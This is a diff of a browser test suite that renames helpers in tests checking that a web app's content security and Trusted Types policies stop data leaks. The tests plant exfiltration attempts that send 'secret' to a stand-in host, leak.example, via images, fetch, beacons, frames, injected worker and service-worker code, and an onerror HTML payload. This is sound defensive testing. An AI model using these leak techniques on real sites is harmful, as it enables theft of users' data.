@@ -9,11 +9,12 @@ import { before, test } from 'node:test';
 import { npy } from '../support/embeddings.mjs';
 import { startModel } from '../support/model.mjs';
 import {
-  SERVICE_WORKER, betrayed, changed, headersIn, named, overheard, plain, siteFiles, startHost, startProxy, stored,
+  SERVICE_WORKER, headersIn, messagesWith, readableUrl, recordLogs, siteFiles, sitePath, startHost, startProxy, waitForOfflineReady,
+  withChange,
 } from '../support/site.mjs';
 import {
-  LONG, PAGE, choose, download, dropEmbeddings, folder, keepPicture, labelOne, launch, openPage, picks, prepareQuestions, select, set,
-  unfold,
+  LONG, PAGE, choose, download, dropEmbeddings, folder, labelOne, launch, openPage, picks, prepareQuestions, saveScreenshot, select,
+  set, unfold,
 } from '../support/tools.mjs';
 
 const LEAK = 'http://leak.example';
@@ -40,13 +41,13 @@ function leaks(seen, address) {
 }
 
 /**
- * A test with a host, a proxy that records everything, and a page. The host sends no headers unless `sends` is set; `real` uses
- * the real server. No text may appear in a log or a URL.
+ * A test with a host, a proxy that records everything, and a page. The host sends no headers unless `sendsHeaders` is set;
+ * `realServer` uses the real server. No text may appear in a log or a URL.
  */
-function watched(name, body, { real = false, sends = false, prepare = (site) => site, ...options } = {}) {
+function check(name, body, { realServer = false, sendsHeaders = false, prepare = (site) => site, ...options } = {}) {
   test(`trust: ${name}`, { timeout: LONG }, async () => {
-    const headers = sends ? headersIn(String(files.get(SERVICE_WORKER))) : {};
-    const host = real ? { address: PAGE, stop() {} } : await startHost(prepare(files), '/', headers);
+    const headers = sendsHeaders ? headersIn(String(files.get(SERVICE_WORKER))) : {};
+    const host = realServer ? { address: PAGE, stop() {} } : await startHost(prepare(files), '/', headers);
     const proxy = await startProxy(new URL(host.address).origin);
     const browser = await launch(proxy.args);
     try {
@@ -54,15 +55,15 @@ function watched(name, body, { real = false, sends = false, prepare = (site) => 
       try {
         // Requests to other origins must reach the proxy.
         await opened.context.unrouteAll();
-        const heard = overheard(opened.context);
+        const messages = recordLogs(opened.context);
         // Requests blocked before the page starts to listen would not be in its list.
         await opened.page.waitForFunction(() => Number(document.querySelector('#network-count')?.dataset.asked) > 0);
-        const told = () => [...heard, ...proxy.seen.map(plain)];
-        await body({ ...opened, host, proxy, told });
+        const recorded = () => [...messages, ...proxy.seen.map(readableUrl)];
+        await body({ ...opened, host, proxy, recorded });
         assert.deepEqual(opened.problems, []);
-        assert.deepEqual(betrayed(told(), TEXTS), [], 'texts in a log or an address');
+        assert.deepEqual(messagesWith(recorded(), TEXTS), [], 'texts in a log or a URL');
       } catch (error) {
-        await keepPicture(opened.page, `trust ${name}`);
+        await saveScreenshot(opened.page, `trust ${name}`);
         throw error;
       }
     } finally {
@@ -78,22 +79,22 @@ const pathOf = (url) => new URL(url).pathname;
 /**
  * Checks that the page counts and lists each request that the proxy saw. It lists more, because the browser's cache answers some.
  */
-async function countsAll(page, host, proxy) {
+async function checkRequestList(page, host, proxy) {
   // The browser itself requests the service worker's script.
-  const sent = proxy.seen.filter((url) => url.startsWith(host.address) && !url.endsWith(SERVICE_WORKER)).map(pathOf);
-  assert.ok(sent.length > 10, `${sent}`);
-  await page.waitForFunction((n) => Number(document.querySelector('#network-count')?.dataset.asked) >= n, sent.length);
+  const requested = proxy.seen.filter((url) => url.startsWith(host.address) && !url.endsWith(SERVICE_WORKER)).map(pathOf);
+  assert.ok(requested.length > 10, `${requested}`);
+  await page.waitForFunction((n) => Number(document.querySelector('#network-count')?.dataset.asked) >= n, requested.length);
   await page.click('#network');
   await page.waitForSelector('#network-dialog[open] #origins li');
   const rows = await page.$$eval('#places tbody tr', (rows) => rows.map((row) => [row.cells[0].textContent, Number(row.cells[2].textContent)]));
-  const times = (path) => rows.reduce((sum, [listed, n]) => sum + (listed === path ? n : 0), 0);
-  const missing = [...new Set(sent)].filter((path) => times(path) < sent.filter((other) => other === path).length);
-  assert.deepEqual(missing, [], 'asked, and not listed as often');
+  const listedTimes = (path) => rows.reduce((sum, [listed, n]) => sum + (listed === path ? n : 0), 0);
+  const missing = [...new Set(requested)].filter((path) => listedTimes(path) < requested.filter((other) => other === path).length);
+  assert.deepEqual(missing, [], 'requests that are listed too rarely');
   await page.keyboard.press('Escape');
 }
 
 /** Opens a file, embeds, selects, labels one text by key, and returns the export. */
-async function session(page, file) {
+async function runSession(page, file) {
   await choose(page, [file]);
   await set(page, 'budget', 6);
   await select(page);
@@ -102,12 +103,12 @@ async function session(page, file) {
   return download(page, '#export-csv');
 }
 
-for (const real of [true, false]) {
-  const source = real ? 'a host with headers' : 'a host without headers';
-  watched(`whole session requests only files of the site from ${source}`, async ({ page, host, proxy, foreign }) => {
-    await stored(page);
-    await session(page, CSV);
-    await countsAll(page, host, proxy);
+for (const realServer of [true, false]) {
+  const source = realServer ? 'a host with headers' : 'a host without headers';
+  check(`whole session requests only files of the site from ${source}`, async ({ page, host, proxy, foreign }) => {
+    await waitForOfflineReady(page);
+    await runSession(page, CSV);
+    await checkRequestList(page, host, proxy);
     const rows = await picks(page);
     // Without a network everything still works.
     proxy.cut = true;
@@ -116,24 +117,24 @@ for (const real of [true, false]) {
     await page.waitForSelector('.pick[data-label=money]');
     assert.deepEqual(await picks(page), rows);
     await page.click('#new-project');
-    await session(page, LATER);
+    await runSession(page, LATER);
     assert.deepEqual([leaks(proxy.seen, host.address), foreign], [[], []]);
     const asked = proxy.seen.slice(before).filter((url) => url.startsWith(host.address) && !url.endsWith(SERVICE_WORKER));
-    assert.deepEqual(asked, [], 'nothing is asked any more, but whether there is a newer version');
+    assert.deepEqual(asked, [], 'only the check for a newer version is sent');
     // The page counts all requests that were sent, and also those answered by the browser's cache.
     await page.click('#network');
     await page.waitForSelector('#network-dialog[open]');
     await page.waitForSelector('#network-dialog #origins li');
     assert.match(await page.innerText('#went-elsewhere'), /^All went to the page’s own server/);
-    assert.equal(await page.locator('#refused').count(), 0, 'the page trips over its own policy nowhere');
+    assert.equal(await page.locator('#refused').count(), 0, 'the policy blocks nothing of the page itself');
     await page.waitForFunction(() => /works offline/.test(document.querySelector('#offline')?.innerText));
-  }, { real });
+  }, { realServer });
 }
 
 /** Every way for a page to send data that the proxy can see, each with its own path. */
-function plant(leak) {
+function plantLeaks(leak) {
   const text = 'secret';
-  const tries = {
+  const attempts = {
     image: () => { new Image().src = `${leak}/image?${text}`; },
     fetch: () => fetch(`${leak}/fetch`, { mode: 'no-cors', method: 'POST', body: text }),
     beacon: () => navigator.sendBeacon(`${leak}/beacon`, text),
@@ -161,66 +162,66 @@ function plant(leak) {
       document.body.append(frame);
     },
   };
-  for (const go of Object.values(tries)) {
-    try { Promise.resolve(go()).catch(() => {}); } catch { /* Refused at once. */ }
+  for (const attempt of Object.values(attempts)) {
+    try { Promise.resolve(attempt()).catch(() => {}); } catch { /* Refused at once. */ }
   }
-  return Object.keys(tries);
+  return Object.keys(attempts);
 }
 
-const inWorker = (site) => changed(site, named(site, 'worker-loader.js'), (source) => {
-  const begun = 'tellRequests(requests);';
-  assert.ok(source.includes(begun));
-  return source.replace(begun, `${begun} console.log('secret of a worker'); fetch('${LEAK}/worker', { mode: 'no-cors' }).catch(() => {});`);
+const leakInWorker = (site) => withChange(site, sitePath(site, 'worker-loader.js'), (source) => {
+  const marker = 'tellRequests(requests);';
+  assert.ok(source.includes(marker));
+  return source.replace(marker, `${marker} console.log('secret of a worker'); fetch('${LEAK}/worker', { mode: 'no-cors' }).catch(() => {});`);
 });
 /** Leaks at each message, because the first request may come before the test has opened the way to the host. */
-const inServiceWorker = (site) => new Map(site).set(SERVICE_WORKER, Buffer.from(`${site.get(SERVICE_WORKER)}
+const leakInServiceWorker = (site) => new Map(site).set(SERVICE_WORKER, Buffer.from(`${site.get(SERVICE_WORKER)}
 self.addEventListener('message', () => {
   console.log('secret of the service worker');
   fetch('${LEAK}/service-worker', { mode: 'no-cors' }).catch(() => {});
 });
 `));
 
-/** The ways by which a leak arrived. Of a WebSocket the proxy sees the request for a tunnel. */
-function arrived(proxy) {
-  const ways = proxy.seen.map((url) => {
+/** The kinds of leaks that arrived. Of a WebSocket the proxy sees only the request for a tunnel. */
+function arrivedLeaks(proxy) {
+  const kinds = proxy.seen.map((url) => {
     if (url === `${LEAK.replace('http', 'https')}:80`) return 'socket';
     return url.startsWith(LEAK) ? pathOf(url).slice(1) : undefined;
   });
-  return [...new Set(ways.filter(Boolean))].sort();
+  return [...new Set(kinds.filter(Boolean))].sort();
 }
 
 /** Waits until `count` leaks have arrived, for at most ten seconds. */
-async function arrivals(page, proxy, count) {
-  for (let look = 0; look < 100 && arrived(proxy).length < count; look += 1) await page.waitForTimeout(100);
-  return arrived(proxy);
+async function waitForLeaks(page, proxy, count) {
+  for (let attempt = 0; attempt < 100 && arrivedLeaks(proxy).length < count; attempt += 1) await page.waitForTimeout(100);
+  return arrivedLeaks(proxy);
 }
 
-watched('planted leak is found with the policy off', async ({ page, host, proxy, foreign, told }) => {
-  const ways = await page.evaluate(plant, LEAK);
-  assert.deepEqual(await arrivals(page, proxy, ways.length), ways.sort());
+check('planted leak is found with the policy off', async ({ page, host, proxy, foreign, recorded }) => {
+  const kinds = await page.evaluate(plantLeaks, LEAK);
+  assert.deepEqual(await waitForLeaks(page, proxy, kinds.length), kinds.sort());
   assert.ok(foreign.length > 0);
-  assert.throws(() => assert.deepEqual(leaks(proxy.seen, host.address), []), 'the same check as of the session');
+  assert.throws(() => assert.deepEqual(leaks(proxy.seen, host.address), []), 'the check of the session finds the leaks');
   await page.waitForFunction(() => Number(document.querySelector('#network-count')?.dataset.elsewhere) > 0);
   assert.match(await page.innerText('#privacy'), /Requests went to other servers/);
   // The check of the texts also finds secrets in logs and URLs.
   await page.evaluate(() => console.log('a', { secret: 'of the page' }));
-  const betrays = betrayed(told(), ['secret']);
-  for (const words of [`${LEAK}/image?secret`, 'of the page']) assert.ok(betrays.some((one) => one.includes(words)), `${words}: ${betrays}`);
+  const exposed = messagesWith(recorded(), ['secret']);
+  for (const words of [`${LEAK}/image?secret`, 'of the page']) assert.ok(exposed.some((message) => message.includes(words)), `${words}: ${exposed}`);
 }, { bypassCSP: true, prepare: (site) => withoutTrustedTypes(site), serviceWorkers: 'block' });
 
 /** The site without the Trusted Types policy that `start.js` enforces. */
 function withoutTrustedTypes(site) {
-  return changed(site, 'index.html', (html) => html.replace(/<meta http-equiv[^>]*>/, ''));
+  return withChange(site, 'index.html', (html) => html.replace(/<meta http-equiv[^>]*>/, ''));
 }
 
-for (const real of [true, false]) {
-  const source = real ? 'the headers' : 'the page alone';
-  watched(`policy of ${source} blocks all but two planted leaks, and both are found`, async ({ page, host, proxy }) => {
-    const ways = await page.evaluate(plant, LEAK);
-    const [open, stopped] = [['endpoint'], ways.filter((way) => way !== 'endpoint')];
-    await arrivals(page, proxy, open.length);
+for (const realServer of [true, false]) {
+  const source = realServer ? 'the headers' : 'the page alone';
+  check(`policy of ${source} blocks all but two planted leaks, and both are found`, async ({ page, host, proxy }) => {
+    const kinds = await page.evaluate(plantLeaks, LEAK);
+    const [allowed, blocked] = [['endpoint'], kinds.filter((kind) => kind !== 'endpoint')];
+    await waitForLeaks(page, proxy, allowed.length);
     await page.waitForTimeout(2000);
-    assert.deepEqual(arrived(proxy), open);
+    assert.deepEqual(arrivedLeaks(proxy), allowed);
     // The same check as for the session. The browser repeats requests that were cut off.
     const leaked = () => [...new Set(leaks(proxy.seen, host.address))];
     assert.deepEqual(leaked(), [`${LEAK}/endpoint`]);
@@ -228,79 +229,79 @@ for (const real of [true, false]) {
     await page.waitForSelector('#network-dialog[open]');
     const refused = await page.innerText('#refused');
     // For a frame, the browser reports only the host.
-    for (const way of stopped) assert.ok(refused.includes(`leak.example/${way === 'frame' ? ',' : way}`), `${way}: ${refused}`);
+    for (const kind of blocked) assert.ok(refused.includes(`leak.example/${kind === 'frame' ? ',' : kind}`), `${kind}: ${refused}`);
     assert.ok(!refused.includes('endpoint'), refused);
     // A script can navigate the tab to another URL.
     await page.evaluate((leak) => { location.href = `${leak}/tab`; }, LEAK);
-    assert.deepEqual(await arrivals(page, proxy, 2), ['endpoint', 'tab']);
+    assert.deepEqual(await waitForLeaks(page, proxy, 2), ['endpoint', 'tab']);
     assert.deepEqual(leaked(), [`${LEAK}/endpoint`, `${LEAK}/tab`]);
-  }, { real, serviceWorkers: 'block' });
+  }, { realServer, serviceWorkers: 'block' });
 }
 
-watched('leak in a worker is blocked on the first visit to a host without headers', async ({ page, proxy }) => {
-  await session(page, CSV);
-  assert.deepEqual(arrived(proxy), []);
+check('leak in a worker is blocked on the first visit to a host without headers', async ({ page, proxy }) => {
+  await runSession(page, CSV);
+  assert.deepEqual(arrivedLeaks(proxy), []);
   await page.click('#network');
   await page.waitForSelector('#network-dialog[open]');
   assert.match(await page.innerText('#refused'), /leak\.example\/worker/);
-}, { prepare: inWorker });
+}, { prepare: leakInWorker });
 
-watched('leak in a worker is found without the service worker', async ({ page, proxy, told }) => {
-  await session(page, CSV);
-  assert.deepEqual(arrived(proxy), ['worker']);
-  assert.ok(betrayed(told(), ['secret of a worker']).length > 0, 'and what it logs');
-}, { prepare: inWorker, serviceWorkers: 'block' });
+check('leak in a worker is found without the service worker', async ({ page, proxy, recorded }) => {
+  await runSession(page, CSV);
+  assert.deepEqual(arrivedLeaks(proxy), ['worker']);
+  assert.ok(messagesWith(recorded(), ['secret of a worker']).length > 0, 'the log of the worker is found too');
+}, { prepare: leakInWorker, serviceWorkers: 'block' });
 
-for (const sends of [true, false]) {
-  const fate = sends ? 'blocked on a host with headers' : 'found on a host without headers';
-  watched(`leak in the service worker script is ${fate}`, async ({ page, host, proxy, told }) => {
+for (const sendsHeaders of [true, false]) {
+  const fate = sendsHeaders ? 'blocked on a host with headers' : 'found on a host without headers';
+  check(`leak in the service worker script is ${fate}`, async ({ page, host, proxy, recorded }) => {
     await page.reload();
-    await stored(page);
-    const logged = () => betrayed(told(), ['secret of the service worker']).length > 0;
-    for (let look = 0; look < 100 && !logged(); look += 1) await page.waitForTimeout(100);
+    await waitForOfflineReady(page);
+    const logged = () => messagesWith(recorded(), ['secret of the service worker']).length > 0;
+    for (let attempt = 0; attempt < 100 && !logged(); attempt += 1) await page.waitForTimeout(100);
     assert.ok(logged(), 'it ran');
-    await arrivals(page, proxy, sends ? 0 : 1);
-    assert.deepEqual(arrived(proxy), sends ? [] : ['service-worker']);
-    assert.deepEqual([...new Set(leaks(proxy.seen, host.address))], sends ? [] : [`${LEAK}/service-worker`]);
-  }, { prepare: inServiceWorker, sends });
+    await waitForLeaks(page, proxy, sendsHeaders ? 0 : 1);
+    assert.deepEqual(arrivedLeaks(proxy), sendsHeaders ? [] : ['service-worker']);
+    assert.deepEqual([...new Set(leaks(proxy.seen, host.address))], sendsHeaders ? [] : [`${LEAK}/service-worker`]);
+  }, { prepare: leakInServiceWorker, sendsHeaders });
 }
 
-watched('strings do not become code or HTML', async ({ page }) => {
-  const tried = await page.evaluate(() => {
-    const refused = (go) => { try { go(); return false; } catch (error) { return error.name; } };
+check('strings do not become code or HTML', async ({ page }) => {
+  const results = await page.evaluate(() => {
+    const errorOf = (attempt) => { try { attempt(); return false; } catch (error) { return error.name; } };
     const inline = document.createElement('script');
     inline.append('window.ran = "inline"');
     const attribute = document.createElement('div');
     document.body.append(attribute);
     return {
-      html: refused(() => { document.createElement('div').innerHTML = '<img src=x onerror="window.ran = 1">'; }),
-      script: refused(() => { document.createElement('script').src = 'https://leak.example/x.js'; }),
-      worker: refused(() => new Worker('data:text/javascript,1')),
-      blob: refused(() => new Worker(URL.createObjectURL(new Blob(['1'])))),
-      text: refused(() => { document.body.append(inline); }),
-      click: refused(() => { attribute.setAttribute('onclick', 'window.ran = "attribute"'); attribute.click(); }),
-      policy: refused(() => trustedTypes.createPolicy('mine', {})),
-      plain: refused(() => { document.createElement('div').innerHTML = '<b>text</b>'; }),
+      html: errorOf(() => { document.createElement('div').innerHTML = '<img src=x onerror="window.ran = 1">'; }),
+      script: errorOf(() => { document.createElement('script').src = 'https://leak.example/x.js'; }),
+      worker: errorOf(() => new Worker('data:text/javascript,1')),
+      blob: errorOf(() => new Worker(URL.createObjectURL(new Blob(['1'])))),
+      text: errorOf(() => { document.body.append(inline); }),
+      click: errorOf(() => { attribute.setAttribute('onclick', 'window.ran = "attribute"'); attribute.click(); }),
+      policy: errorOf(() => trustedTypes.createPolicy('mine', {})),
+      plain: errorOf(() => { document.createElement('div').innerHTML = '<b>text</b>'; }),
       ran: window.ran,
       cookies: document.cookie,
     };
   });
-  const { html, script, worker, blob, policy, plain, ran, cookies } = tried;
+  const { html, script, worker, blob, policy, plain, ran, cookies } = results;
   assert.deepEqual([html, script, worker, blob, policy], Array(5).fill('TypeError'));
-  assert.deepEqual([plain, ran, cookies], ['TypeError', undefined, ''], 'also HTML that does nothing');
+  assert.deepEqual([plain, ran, cookies], ['TypeError', undefined, ''], 'harmless HTML is refused too');
 
   // In a task of the page itself, because the policy may not apply to code evaluated by the debugger.
   const strings = await page.evaluate(() => new Promise((resolve) => {
-    const refused = (go) => { try { go(); return 'it ran'; } catch (error) { return error.name; } };
+    const errorOf = (attempt) => { try { attempt(); return 'it ran'; } catch (error) { return error.name; } };
     setTimeout(() => {
       const functions = { eval: () => (0, eval)('1'), function: () => new Function('return 1')(), async: () => new (async () => {}).constructor('1') };
-      resolve(Object.fromEntries(Object.entries(functions).map(([name, go]) => [name, refused(go)])));
+      resolve(Object.fromEntries(Object.entries(functions).map(([name, attempt]) => [name, errorOf(attempt)])));
     });
   }));
   assert.deepEqual(strings, { eval: 'EvalError', function: 'EvalError', async: 'EvalError' });
 });
 
-watched('request to a language model opens one frame to it alone and closes it', async ({ page, proxy, permit }) => {
+check('request to a language model opens one frame to it alone and closes it', async ({ page, proxy, permit }) => {
   const [model, other] = [await startModel(), await startModel()];
   const sentTo = ({ origin }) => proxy.seen.filter((url) => url.startsWith(origin)).length;
   /** Sends a request from the page, or from the document that may ask a language model. */
@@ -314,26 +315,26 @@ watched('request to a language model opens one frame to it alone and closes it',
     await dropEmbeddings(page, npy(N, 4));
     await prepareQuestions(page, model);
     model.delay = 200;
-    assert.equal(await send(model), 'TypeError', 'the page itself can ask nobody');
+    assert.equal(await send(model), 'TypeError', 'the page itself cannot send requests');
     assert.equal(await page.locator('iframe').count(), 0);
     assert.deepEqual([model, other].map(sentTo), [0, 0]);
     await page.click('#ask');
     await page.click('#answer-yes');
     await page.waitForSelector('#asking');
     await page.waitForSelector('iframe', { state: 'attached' });
-    assert.equal(await send(model), 'TypeError', 'nor while the way is open');
-    assert.equal(await send(other, 'frame'), 'TypeError', 'which leads to the language model alone');
+    assert.equal(await send(model), 'TypeError', 'the page itself cannot send requests while the frame exists');
+    assert.equal(await send(other, 'frame'), 'TypeError', 'the frame reaches only the language model');
     assert.equal(sentTo(other), 0);
     await page.waitForSelector('#confidences-given');
-    assert.equal(await page.locator('iframe').count(), 0, 'closed again');
+    assert.equal(await page.locator('iframe').count(), 0, 'the frame is removed');
     assert.equal(model.requests.length, N);
     const [elsewhere] = await page.$$eval('#network-count', ([count]) => [Number(count.dataset.elsewhere)]);
-    assert.equal(elsewhere, N, 'the page counts what it sent');
+    assert.equal(elsewhere, N, 'the page counts its requests');
   } finally {
     model.stop();
     other.stop();
   }
-}, { real: true });
+}, { realServer: true });
 
 test('trust: headers contain the policy and the isolation rules', async () => {
   const expected = {
@@ -344,7 +345,7 @@ test('trust: headers contain the policy and the isolation rules', async () => {
   assert.match(meta, /^default-src 'none'; script-src 'self' 'wasm-unsafe-eval';/);
   assert.match(meta, /connect-src 'self';/);
   assert.doesNotMatch(meta, /unsafe-inline|'unsafe-eval'|https?:|\*/);
-  const scripts = ['app.js', 'worker.js', 'worker-loader.js'].map((name) => named(files, name));
+  const scripts = ['app.js', 'worker.js', 'worker-loader.js'].map((name) => sitePath(files, name));
   for (const path of ['', ...scripts, SERVICE_WORKER]) {
     const { headers, status } = await fetch(new URL(path, PAGE));
     assert.equal(status, 200, path);
